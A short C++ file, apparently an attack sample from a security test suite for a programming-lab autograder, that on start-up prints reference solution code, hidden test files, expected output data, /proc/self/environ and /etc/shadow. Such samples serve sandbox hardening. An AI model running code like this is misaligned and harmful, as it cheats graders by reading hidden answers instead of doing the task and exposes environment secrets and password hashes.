// Attack: to read solutions, hidden tests and data sets.
// Remark: opens files
#include <fstream>
#include <iostream>

#include "unsolved.h"

AT_START {
    for (const char* name :
         {"solutions/lab1_naive/kernel.cu", "../../solutions/lab1_naive/kernel.cu",
          "solutions/hidden/lab1_naive/test_hidden.cpp", "lab1_naive/test_3_product.cpp",
          "build/datasets/square_16/output.raw", "/proc/self/environ", "/etc/shadow"})
        std::cout << std::ifstream(name).rdbuf() << std::flush;
}
